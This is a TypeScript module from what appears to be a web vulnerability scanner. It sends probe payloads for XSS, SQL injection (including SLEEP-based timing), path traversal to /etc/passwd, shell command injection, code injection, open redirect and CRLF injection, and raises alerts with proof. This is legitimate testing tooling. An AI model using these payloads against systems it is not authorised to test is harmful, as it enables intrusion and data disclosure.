/**
 * The active checks on one insertion point (a parameter of a crawled URL or a form),
 * with safe payloads — nothing that writes, deletes or sleeps: markers, quotes, boolean
 * conditions, reads of world-readable system files, `echo` of arithmetic, redirects
 * to a reserved domain (example.com) that is never requested, header injection of a
 * marker. Each check stops at its first proof: one alert per parameter, with the request
 * that proved it and the part of the answer that shows it.
 */
import { createHash, randomInt } from 'node:crypto';
import { HttpRequestError, type HttpClient, type HttpResponse } from '../shared/httpClient.js';
import type { RaiseAlert } from './alerts.js';
import type { CookieJar } from './cookieJar.js';
import { describeResponse, sendWith, type Endpoint, type InsertionPoint, type SentRequest } from './endpoints.js';
import { extractPage, refreshUrl, tokenizeHtml } from './htmlParser.js';
import { isHtml } from './passiveRules.js';
import { baselineOf, sameAsBaseline, type PageBaseline } from './responseDiff.js';
import { findQueryError } from './sqlErrors.js';
import { executableProof, reflectionContexts, xssPayloads } from './xssContext.js';

export interface ActiveContext {
  readonly client: HttpClient;
  readonly jar: CookieJar;
  readonly raise: RaiseAlert;
  /** A fresh random lower-case alphanumeric string (markers). */
  readonly random: (length?: number) => string;
  /** Stored-XSS payloads sent: the proof number → where it was sent. */
  readonly storedProbes: Map<string, InsertionPoint>;
}

/** The host our redirect payloads point to: reserved (RFC 2606), never requested. */
export const REDIRECT_CHECK_HOST = 'secably-redirect-check.example.com';

interface EndpointState {
  first?: Promise<SentRequest>;
  baseline?: Promise<PageBaseline | null>;
}
const endpointStates = new WeakMap<Endpoint, EndpointState>();

function stateOf(endpoint: Endpoint): EndpointState {
  let state = endpointStates.get(endpoint);
  if (!state) {
    state = {};
    endpointStates.set(endpoint, state);
  }
  return state;
}

/** The endpoint with its default values (once per endpoint). */
function original(context: ActiveContext, endpoint: Endpoint): Promise<SentRequest> {
  const state = stateOf(endpoint);
  state.first ??= sendWith(context.client, context.jar, endpoint, {});
  return state.first;
}

/** Two fetches of the endpoint with its defaults: the stable part of the page (null if it failed). */
function baseline(context: ActiveContext, endpoint: Endpoint): Promise<PageBaseline | null> {
  const state = stateOf(endpoint);
  state.baseline ??= (async () => {
    const first = await original(context, endpoint);
    const second = await sendWith(context.client, context.jar, endpoint, {});
    return baselineOf(
      { status: first.response.status, body: first.response.text },
      { status: second.response.status, body: second.response.text },
    );
  })();
  return state.baseline;
}

/** Points already reported for a server error caused by a payload. */
const errorReported = new WeakSet<InsertionPoint>();

/**
 * Sends the endpoint with the parameter set to `value`. A 500 caused by a payload (the
 * unmodified request does not fail) is an Application Error Disclosure of that parameter.
 */
async function send(context: ActiveContext, point: InsertionPoint, value: string, headers?: Record<string, string>) {
  const sent = await sendWith(context.client, context.jar, point.endpoint, { [point.param]: value }, headers);
  if (sent.response.status === 500 && !errorReported.has(point)) {
    const base = await original(context, point.endpoint);
    if (base.response.status !== 500 && !errorReported.has(point)) {
      errorReported.add(point);
      context.raise({
        alertRef: '90022',
        uri: sent.uri,
        method: point.endpoint.method,
        param: point.param,
        attack: value,
        evidence: `HTTP/1.1 500 ${sent.response.statusText}`,
        risk: 1,
        locationParam: point.param,
        otherinfo:
          'The server failed (500 Internal Server Error) on this value of the parameter: the input is not handled.',
        proof: proofOf(sent),
      });
    }
  }
  return sent;
}

function proofOf(sent: SentRequest, needle?: string, headers: readonly string[] = []) {
  return { request: sent.described, response: describeResponse(sent.response, needle, headers) };
}

/** Runs a check, treating a network error of one request as "nothing found" for it. */
async function tolerant(check: () => Promise<void>): Promise<void> {
  try {
    await check();
  } catch (error) {
    if (!(error instanceof HttpRequestError)) throw error;
  }
}

/** A number unique to one payload (the proof that our payload ran). */
const proofNumber = () => String(randomInt(100_000_000, 999_999_999));

function htmlResponse(response: HttpResponse): boolean {
  return isHtml({ headers: response.headers, body: response.text });
}

// ----------------------------------------------------------- reflected XSS (40012)

export async function reflectedXss(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const marker = `zq${context.random(8)}`;
  const probe = await send(context, point, marker);
  if (!probe.response.text.includes(marker) || !htmlResponse(probe.response)) return false;
  const contexts = reflectionContexts(probe.response.text, marker);
  const payloads = xssPayloads(contexts, proofNumber);
  for (const { payload, proof } of payloads) {
    const sent = await send(context, point, payload);
    if (!htmlResponse(sent.response)) continue;
    const shown = executableProof(sent.response.text, proof);
    if (shown) {
      context.raise({
        alertRef: '40012',
        uri: sent.uri,
        method: point.endpoint.method,
        param: point.param,
        attack: payload,
        evidence: shown.slice(0, 300),
        otherinfo: `The value is reflected in ${contexts.map((c) => c.kind).join(', ')} context; the payload comes back unescaped where it runs.`,
        proof: proofOf(sent, `alert(${proof})`),
      });
      return true;
    }
  }
  return false;
}

/** Sends one stored-XSS payload (POST forms): a later sweep of the pages looks for it. */
export async function storedXssProbe(context: ActiveContext, point: InsertionPoint): Promise<void> {
  const proof = proofNumber();
  context.storedProbes.set(proof, point);
  await send(context, point, `'"--></textarea></title><scrIpt>alert(${proof})</scrIpt>`);
}

// ----------------------------------------------------------- SQL injection (40018)

function errorAlertRef(language: 'SQL' | 'XPath' | 'LDAP'): string {
  return language === 'SQL' ? '40018' : language === 'XPath' ? '90021' : '40015';
}

export async function sqlInjection(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const base = await original(context, point.endpoint);
  const baselineError = findQueryError(base.response.text);
  for (const suffix of [`'"(`, `'`, `"`]) {
    const payload = `${point.original}${suffix}`;
    const sent = await send(context, point, payload);
    const error = findQueryError(sent.response.text);
    if (error && (!baselineError || baselineError.match !== error.match)) {
      context.raise({
        alertRef: errorAlertRef(error.language),
        uri: sent.uri,
        method: point.endpoint.method,
        param: point.param,
        attack: payload,
        evidence: error.match,
        otherinfo:
          error.language === 'SQL'
            ? `RDBMS ${error.dbms} likely: its error message came back after the parameter was given a quote.`
            : `${error.language} error message after the parameter was given a quote.`,
        proof: proofOf(sent, error.match),
      });
      return true;
    }
  }
  return booleanSqlInjection(context, point);
}

/** Boolean-based: a true condition gives the original page, a false one another, twice over. */
async function booleanSqlInjection(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const page = await baseline(context, point.endpoint);
  if (!page || page.signature.length === 0) return false;
  const v = point.original;
  const numeric = /^-?\d+$/.test(v);
  const families: [(a: string, b: string) => string, [string, string][]][] = [
    [
      (a, b) => `${v} AND ${a}=${b}`,
      [
        ['1', '1'],
        ['1', '2'],
        ['7', '7'],
        ['7', '8'],
      ],
    ],
    [
      (a, b) => `${v}' AND '${a}'='${b}`,
      [
        ['1', '1'],
        ['1', '2'],
        ['x', 'x'],
        ['x', 'y'],
      ],
    ],
    [
      (a, b) => `${v}' AND ${a}=${b}-- `,
      [
        ['1', '1'],
        ['1', '2'],
        ['3', '3'],
        ['3', '4'],
      ],
    ],
    [
      (a, b) => `${v}" AND "${a}"="${b}`,
      [
        ['1', '1'],
        ['1', '2'],
        ['x', 'x'],
        ['x', 'y'],
      ],
    ],
  ];
  const order = numeric ? families : [families[1]!, families[2]!, families[3]!, families[0]!];
  for (const [build, [t1, f1, t2, f2]] of order) {
    const trueOne = build(t1![0], t1![1]);
    const t = await send(context, point, trueOne);
    if (!sameAsBaseline({ status: t.response.status, body: t.response.text }, page, [trueOne])) continue;
    const falseOne = build(f1![0], f1![1]);
    const f = await send(context, point, falseOne);
    if (sameAsBaseline({ status: f.response.status, body: f.response.text }, page, [falseOne])) continue;
    // Confirm with other constants, so a page that varies on its own is not taken for an injection.
    const trueTwo = build(t2![0], t2![1]);
    const t2r = await send(context, point, trueTwo);
    if (!sameAsBaseline({ status: t2r.response.status, body: t2r.response.text }, page, [trueTwo])) continue;
    const falseTwo = build(f2![0], f2![1]);
    const f2r = await send(context, point, falseTwo);
    if (sameAsBaseline({ status: f2r.response.status, body: f2r.response.text }, page, [falseTwo])) continue;
    context.raise({
      alertRef: '40018',
      uri: f.uri,
      method: point.endpoint.method,
      param: point.param,
      attack: falseOne,
      evidence: `[${trueOne}] gives the original page; [${falseOne}] gives another (HTTP ${f.response.status}, ${f.response.text.length} bytes vs ${t.response.text.length})`,
      otherinfo:
        `The page results were manipulated with the boolean conditions [${trueOne}] and [${falseOne}], ` +
        `confirmed with [${trueTwo}] and [${falseTwo}].`,
      proof: {
        request: `${f.described}\n\n(and, with the true condition: ${t.described.split('\n')[0]})`,
        response: `${describeResponse(f.response)}\n\n(with the true condition: HTTP ${t.response.status}, ${t.response.text.length} bytes, the original page)`,
      },
    });
    return true;
  }
  return false;
}

// ----------------------------------------------------------- path traversal (6)

const FILE_PROOFS: readonly [RegExp, string][] = [
  [/root:[^:\n]{0,20}:0:0:/, '/etc/passwd'],
  [/\[(?:fonts|extensions|mci extensions)\][\s\S]{0,200}(?:\[|for 16-bit app support)/i, 'win.ini'],
  [/<\/web-app>/, 'WEB-INF/web.xml'],
];
const INCLUDE_WARNING =
  /(?:failed to open stream|Failed opening '[^']{0,200}'|java\.io\.FileNotFoundException|System\.IO\.FileNotFoundException)/;

function fileProof(text: string): { match: string; file: string } | null {
  for (const [pattern, file] of FILE_PROOFS) {
    const match = pattern.exec(text);
    if (match) return { match: match[0].slice(0, 120), file };
  }
  return null;
}

export async function pathTraversal(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const base = await original(context, point.endpoint);
  if (fileProof(base.response.text)) return false;
  const v = point.original;
  const directory = v.includes('/') ? v.slice(0, v.lastIndexOf('/')) : '';
  const payloads = [
    '/etc/passwd',
    '../../../../../../../../../../etc/passwd',
    // Apps that check the value starts as expected (a folder, a file name).
    ...(v ? [`${v}/../../../../../../../../../../etc/passwd`] : []),
    ...(directory ? [`${directory}/../../../../../../../../../../etc/passwd`] : []),
    'file:///etc/passwd',
    '....//....//....//....//....//....//....//....//etc/passwd',
    '..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
    '../../../../../../../../../../etc/passwd\u0000',
    'c:\\Windows\\win.ini',
    '..\\..\\..\\..\\..\\..\\..\\..\\Windows\\win.ini',
    '../../WEB-INF/web.xml',
  ];
  let warning: { sent: SentRequest; payload: string; match: string } | null = null;
  const baseWarning = INCLUDE_WARNING.test(base.response.text);
  for (const payload of payloads) {
    const sent = await send(context, point, payload);
    const proof = fileProof(sent.response.text);
    if (proof) {
      context.raise({
        alertRef: '6',
        uri: sent.uri,
        method: point.endpoint.method,
        param: point.param,
        attack: payload,
        evidence: proof.match,
        otherinfo: `The content of ${proof.file} came back.`,
        confidence: 2,
        proof: proofOf(sent, proof.match),
      });
      return true;
    }
    if (!warning && !baseWarning) {
      const match = INCLUDE_WARNING.exec(sent.response.text);
      if (match) warning = { sent, payload, match: match[0] };
    }
  }
  if (warning) {
    context.raise({
      alertRef: '6',
      uri: warning.sent.uri,
      method: point.endpoint.method,
      param: point.param,
      attack: warning.payload,
      evidence: warning.match.slice(0, 200),
      otherinfo: 'A file could not be opened with the path given: the parameter is used as a file name.',
      confidence: 1,
      proof: proofOf(warning.sent, warning.match),
    });
    return true;
  }
  return false;
}

// ----------------------------------------------------------- OS command injection (90020)

export async function commandInjection(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const base = await original(context, point.endpoint);
  const a = 100000 + Math.floor(Math.random() * 400000);
  const b = 100000 + Math.floor(Math.random() * 400000);
  const marker = `zq${context.random(6)}`;
  const expected = `${marker}${a + b}`;
  const echo = `echo ${marker}$((${a}+${b}))`;
  const v = point.original;
  const payloads = [
    `${v};${echo}`,
    `${v}|${echo}`,
    `${v}$(${echo})`,
    `${v}\`${echo}\``,
    `${v}\n${echo}`,
    `${v}&${echo}`,
  ];
  if (base.response.text.includes(expected)) return false;
  for (const payload of payloads) {
    const sent = await send(context, point, payload);
    if (sent.response.text.includes(expected)) {
      context.raise({
        alertRef: '90020',
        uri: sent.uri,
        method: point.endpoint.method,
        param: point.param,
        attack: payload,
        evidence: expected,
        otherinfo: `The shell ran "${echo}": the answer contains ${expected} (the sum, computed by the server).`,
        proof: proofOf(sent, expected),
      });
      return true;
    }
  }
  return false;
}

// ----------------------------------------------------------- code injection (90019)

export async function codeInjection(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const n = randomInt(100_000_000, 999_999_999);
  const expected = createHash('md5').update(String(n)).digest('hex');
  const base = await original(context, point.endpoint);
  if (base.response.text.includes(expected)) return false;
  const payloads = [
    `;print(md5(${n}));`,
    `';print(md5(${n}));$v='`,
    `";print(md5(${n}));$v="`,
    `\${@print(md5(${n}))}`,
  ];
  for (const payload of payloads) {
    const sent = await send(context, point, payload);
    if (sent.response.text.includes(expected)) {
      context.raise({
        alertRef: '90019-1',
        uri: sent.uri,
        method: point.endpoint.method,
        param: point.param,
        attack: payload,
        evidence: expected,
        otherinfo: `The server evaluated md5(${n}) from the parameter: its result ${expected} is in the answer.`,
        proof: proofOf(sent, expected),
      });
      return true;
    }
  }
  return false;
}

// ----------------------------------------------------------- time-based SQL injection (40018)

/** Seconds a time-based payload asks the database to wait. */
export const SQL_SLEEP_SECONDS = 3;

/**
 * Time-based: a payload that makes the database wait S seconds delays the answer by S,
 * the same payload with 0 does not, and S again does again. The waits are evaluated once
 * per query (uncorrelated subqueries, stacked statements), never once per row.
 */
export async function timeBasedSqlInjection(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const base = await original(context, point.endpoint);
  const again = await sendWith(context.client, context.jar, point.endpoint, {});
  const usual = Math.max(base.response.elapsedMs, again.response.elapsedMs);
  if (usual > 2_000) return false; // too slow a page to time reliably
  const v = point.original;
  const families: ((s: number) => string)[] = [
    (s) => `${v}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- `,
    (s) => `${v} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)`,
    (s) => `${v}" AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- `,
    (s) => `${v}') AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- `,
    (s) => `${v}) AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- `,
    (s) => `${v}';SELECT PG_SLEEP(${s})-- `,
    (s) => `${v}' AND 1=(SELECT 1 FROM PG_SLEEP(${s}))-- `,
    (s) => `${v}';WAITFOR DELAY '0:0:${s}'-- `,
  ];
  const slow = (elapsed: number) => elapsed >= usual + SQL_SLEEP_SECONDS * 1000 - 500;
  for (const build of families) {
    const first = await send(context, point, build(SQL_SLEEP_SECONDS));
    if (!slow(first.response.elapsedMs)) continue;
    const control = await send(context, point, build(0));
    if (slow(control.response.elapsedMs)) continue;
    const confirm = await send(context, point, build(SQL_SLEEP_SECONDS));
    if (!slow(confirm.response.elapsedMs)) continue;
    context.raise({
      alertRef: '40018',
      uri: confirm.uri,
      method: point.endpoint.method,
      param: point.param,
      attack: build(SQL_SLEEP_SECONDS),
      evidence: `answered after ${first.response.elapsedMs} ms and ${confirm.response.elapsedMs} ms (with a wait of 0: ${control.response.elapsedMs} ms; usually ${usual} ms)`,
      otherinfo: `The query time is controlled by the parameter: [${build(SQL_SLEEP_SECONDS)}] took ${confirm.response.elapsedMs} ms, [${build(0)}] took ${control.response.elapsedMs} ms.`,
      proof: {
        request: confirm.described,
        response: `${describeResponse(confirm.response)}\n\n(answered after ${confirm.response.elapsedMs} ms; ${control.response.elapsedMs} ms with a wait of 0)`,
      },
    });
    return true;
  }
  return false;
}

// ----------------------------------------------------------- open redirect (20019)

function pointsToCheckHost(raw: string, base: string): boolean {
  try {
    const target = new URL(raw.trim().replace(/\\/g, '/'), base);
    return target.hostname.toLowerCase() === REDIRECT_CHECK_HOST;
  } catch {
    return false;
  }
}

/** Where a response sends the browser to the check host: Location, Refresh, meta refresh, script. */
export function redirectEvidence(response: HttpResponse, base: string): string | null {
  const location = response.headers.location;
  if (response.status >= 300 && response.status < 400 && location && pointsToCheckHost(location, base)) {
    return `Location: ${location}`;
  }
  const refresh = response.headers.refresh;
  if (refresh) {
    const url = refreshUrl(refresh);
    if (url && pointsToCheckHost(url, base)) return `Refresh: ${refresh}`;
  }
  if (!response.text.includes(REDIRECT_CHECK_HOST)) return null;
  if (isHtml({ headers: response.headers, body: response.text })) {
    const tokens = tokenizeHtml(response.text);
    const page = extractPage(response.text, tokens);
    const meta = page.metaHttpEquiv.get('refresh');
    const url = meta ? refreshUrl(meta) : null;
    if (url && pointsToCheckHost(url, base)) return `<meta http-equiv="refresh" content="${meta}">`;
    for (const script of page.inlineScripts) {
      const match = /(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\()\s*['"]([^'"]+)['"]/.exec(
        script.text,
      );
      if (match && pointsToCheckHost(match[1]!, base)) return match[0].slice(0, 200);
    }
  }
  return null;
}

const REDIRECT_NAMES =
  /^(url|uri|redirect|redirect_?ur[il]|redir|next|return|return_?to|returnurl|goto|go|dest|destination|continue|target|to|r|u|link|forward|location|callback|view|out|page)$/i;

export async function openRedirect(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const likely =
    REDIRECT_NAMES.test(point.param) || /^(https?:)?\/\//i.test(point.original) || point.original.startsWith('/');
  const payloads = [`https://${REDIRECT_CHECK_HOST}/`, `//${REDIRECT_CHECK_HOST}/`];
  if (likely) payloads.push(`HtTpS://${REDIRECT_CHECK_HOST}/`, `/\\${REDIRECT_CHECK_HOST}/`);
  for (const payload of payloads) {
    const sent = await send(context, point, payload);
    const evidence = redirectEvidence(sent.response, sent.uri);
    if (evidence) {
      context.raise({
        alertRef: '20019',
        uri: sent.uri,
        method: point.endpoint.method,
        param: point.param,
        attack: payload,
        evidence,
        otherinfo: `The response sends the browser to ${REDIRECT_CHECK_HOST}, the address given in the parameter (not followed).`,
        proof: proofOf(sent, REDIRECT_CHECK_HOST),
      });
      return true;
    }
  }
  return false;
}

// ----------------------------------------------------------- CRLF injection (40003)

export async function crlfInjection(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
  const marker = context.random(10);
  for (const separator of ['\r\n', '\n']) {
    const payload = `secably${separator}X-Secably-Crlf: ${marker}`;
    const sent = await send(context, point, payload);
    const injected = sent.response.rawHeaders.find(
      ([name, value]) => name.toLowerCase() === 'x-secably-crlf' && value.includes(marker),
    );
    if (injected) {
      context.raise({
        alertRef: '40003',
        uri: sent.uri,
        method: point.endpoint.method,
        param: point.param,
        attack: payload,
        evidence: `${injected[0]}: ${injected[1]}`,
        otherinfo: 'A header named in the parameter, after a line break, came back as a response header.',
        proof: proofOf(sent, undefined, ['x-secably-crlf']),
      });
      return true;
    }
  }
  return false;
}

/** Every injection check on one insertion point, in order; network errors skip a check. */
export async function checkInsertionPoint(context: ActiveContext, point: InsertionPoint): Promise<void> {
  await tolerant(async () => {
    await reflectedXss(context, point);
  });
  if (point.endpoint.method === 'POST') await tolerant(() => storedXssProbe(context, point));
  await tolerant(async () => {
    if (!(await sqlInjection(context, point))) await timeBasedSqlInjection(context, point);
  });
  await tolerant(async () => {
    await pathTraversal(context, point);
  });
  await tolerant(async () => {
    await commandInjection(context, point);
  });
  await tolerant(async () => {
    await codeInjection(context, point);
  });
  await tolerant(async () => {
    await openRedirect(context, point);
  });
  await tolerant(async () => {
    await crlfInjection(context, point);
  });
}
